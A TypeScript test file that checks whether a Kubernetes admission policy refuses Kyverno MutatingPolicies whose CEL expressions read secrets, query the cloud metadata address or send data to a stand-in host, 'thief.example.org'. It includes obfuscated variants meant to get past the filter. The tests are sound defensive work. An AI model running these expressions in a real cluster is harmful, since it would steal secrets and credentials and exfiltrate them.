import { expect } from 'chai';
import type { Manifest } from '../../support/chart.js';
import { useCluster } from '../shared-cluster.js';
import { useAsOperator } from './as-operator.js';
import { mutatingPolicy } from './kyverno-policies.js';

const name = 'registry-mirrors-test';

const reading = (expression: string): Manifest => mutatingPolicy(name, { variables: [{ name: 'found', expression }] });

/** Each reads something, or would send it away, with Kyverno's rights: in as many ways as one can write a call in CEL. */
const READS: Readonly<Record<string, string>> = {
  'an object': 'resource.Get("v1", "secrets", "kube-system", "a")',
  'a list of objects': 'resource.List("v1", "secrets", "kube-system")',
  'an object, in lower case': 'resource.get("v1", "secrets", "kube-system", "a")',
  'an answer of the API server': 'resource.post("v1", "tokenreviews", "", {})',
  'a url': 'http.Get("http://169.254.169.254/latest/meta-data/")',
  'a url that it sends something to': 'http.post("http://thief.example.org", object)',
  'a url, by a client of its own': 'http.client("-").get("https://thief.example.org")',
  'what Kyverno keeps': 'globalContext.Get("secrets", "")',
  'an image': 'image.getMetadata("thief.example.org/a")',
  'a url with blanks in the call': 'http . get\t(\n"http://thief.example.org")',
  'a url with comments in the call': 'http // it\'s\n. // map(\nget // "\n("http://thief.example.org")',
  'a url by another name': '[http].map(h, h.get("http://thief.example.org"))',
  'a url behind what looks like text': `"\\"" + http.get("http://thief.example.org") + "\\""`,
  'a url behind a comment with a backslash': '// \\\nhttp.get("http://thief.example.org")',
};

/** Where a MutatingPolicy has expressions. */
const URL_READ = 'http.get("http://thief.example.org").a == "b"';
const PLACES: Readonly<Record<string, object>> = {
  'a match condition': { matchConditions: [{ name: 'a', expression: URL_READ }] },
  'a JSON patch': { mutations: [{ patchType: 'JSONPatch', jsonPatch: { expression: URL_READ } }] },
  'an apply configuration': {
    mutations: [{ patchType: 'ApplyConfiguration', applyConfiguration: { expression: URL_READ } }],
  },
};

describe('The admission policy, asked with the operator’s own token for a MutatingPolicy,', function () {
  this.timeout(60_000);
  const cluster = useCluster();
  const operator = useAsOperator(cluster);

  async function expectRefusal(object: Manifest, message: string): Promise<void> {
    const { code, stderr } = await operator.apply(object);
    expect(code, stderr).to.not.equal(0);
    expect(stderr).to.include("ValidatingAdmissionPolicy 'registry-mirror-operator'").and.include(message);
  }

  for (const [what, expression] of Object.entries(READS)) {
    it(`refuses one that reads ${what}`, async () => {
      await expectRefusal(reading(expression), 'read nothing but the Pod');
    });
  }

  for (const [where, spec] of Object.entries(PLACES)) {
    it(`refuses one that reads a url in ${where}`, async () => {
      await expectRefusal(mutatingPolicy(name, spec), 'read nothing but the Pod');
    });
  }

  it('refuses one that names nothing that it is for, and one with other targets', async () => {
    await expectRefusal(mutatingPolicy(name, { matchConstraints: { resourceRules: [] } }), 'only policies for Pods');
    const targetMatchConstraints = {
      resourceRules: [{ apiGroups: [''], apiVersions: ['v1'], resources: ['secrets'] }],
    };
    await expectRefusal(mutatingPolicy(name, { targetMatchConstraints }), 'as they are admitted');
    const auditAnnotations = [{ key: 'a', valueExpression: URL_READ }];
    await expectRefusal(mutatingPolicy(name, { auditAnnotations }), 'as they are admitted');
  });
});
